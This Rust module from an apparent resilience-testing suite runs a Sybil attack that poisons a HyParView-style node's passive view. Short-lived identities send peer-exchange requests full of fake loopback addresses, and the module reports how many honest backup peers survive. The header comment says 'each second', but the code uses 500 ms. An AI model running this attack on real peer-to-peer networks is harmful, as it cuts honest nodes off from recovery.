//! Passive-view poisoning: strangers end peer-exchange walks at an honest node with made-up addresses.
//!
//! Each second a fresh identity connects and sends a `PeerExchangeRequest` with a TTL of zero (the walk
//! ends at the target, which merges the sample) holding the most records one request may carry, all
//! on 127.66.x.y where nothing listens. HyParView's merge evicts first the entries the target sent
//! back in its reply: its honest backups. A node whose backups are all fake cannot replace a
//! neighbour that fails.
//!
//! The report compares the target's honest backups before and after: how many it knew, how many of
//! those it still knows, and how much of its passive view is the attackers'.

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::time::Duration;

use dotray_codec::NodeId;
use dotray_membership::{Message, NodeInfo, NodeState, PeerInfo};
use tokio::time::Instant;

use crate::sybil::{Sybil, is_attackers};
use crate::{Report, Result};

/// Records in one request: `dotray_membership::Config::max_exchange_peers`' default.
const RECORDS: usize = 16;
/// Time between two requests (each from a fresh identity).
const EVERY: Duration = Duration::from_millis(500);

/// Runs the attack against `target` until `deadline`.
pub async fn run(target: SocketAddr, deadline: Instant, report: &mut Report) -> Result<()> {
    let before = honest_backups(target).await.map_err(|e| format!("querying the target before: {e}"))?;
    let mut requests = 0u64;
    let mut next_fake = 0u32;
    while Instant::now() + EVERY < deadline {
        let Ok(mut sybil) = Sybil::connect(target).await else {
            tokio::time::sleep(EVERY).await;
            continue;
        };
        let origin = PeerInfo::new(sybil.id(), SocketAddr::from(([127, 66, 255, 255], 9)));
        let peers = (0..RECORDS)
            .map(|_| {
                next_fake += 1;
                let [_, _, a, b] = next_fake.to_be_bytes();
                let id = NodeId::from_bytes(rand::random());
                PeerInfo::new(id, SocketAddr::from(([127, 66, a, b], 9)))
            })
            .collect();
        let exchange_id = rand::random();
        sybil.send(Message::PeerExchangeRequest { origin, ttl: 0, peers, exchange_id })?;
        requests += 1;
        sybil.serve_until(Instant::now() + EVERY).await;
        sybil.close().await;
    }
    let mut watcher = Sybil::connect(target).await?;
    let after = watcher.query().await.map_err(|e| format!("querying the target after: {e}"))?;
    watcher.close().await;
    let after_honest: BTreeSet<NodeId> =
        after.iter().filter(|n| !is_attackers(&n.peer.addr)).map(|n| n.peer.id).collect();
    let passive: Vec<&NodeInfo> =
        after.iter().filter(|n| matches!(n.state, NodeState::Passive | NodeState::Down)).collect();
    let kept = before.iter().filter(|id| after_honest.contains(id)).count();
    report.add("requests", requests);
    report.add("honest_backups_before", before.len() as u64);
    report.add("honest_backups_kept", kept as u64);
    report.add("passive_len", passive.len() as u64);
    report.add("passive_fake", passive.iter().filter(|n| is_attackers(&n.peer.addr)).count() as u64);
    Ok(())
}

/// The honest nodes in the target's passive view.
async fn honest_backups(target: SocketAddr) -> Result<BTreeSet<NodeId>> {
    let mut watcher = Sybil::connect(target).await?;
    let nodes = watcher.query().await;
    watcher.close().await;
    Ok(nodes?
        .iter()
        .filter(|n| matches!(n.state, NodeState::Passive | NodeState::Down) && !is_attackers(&n.peer.addr))
        .map(|n| n.peer.id)
        .collect())
}
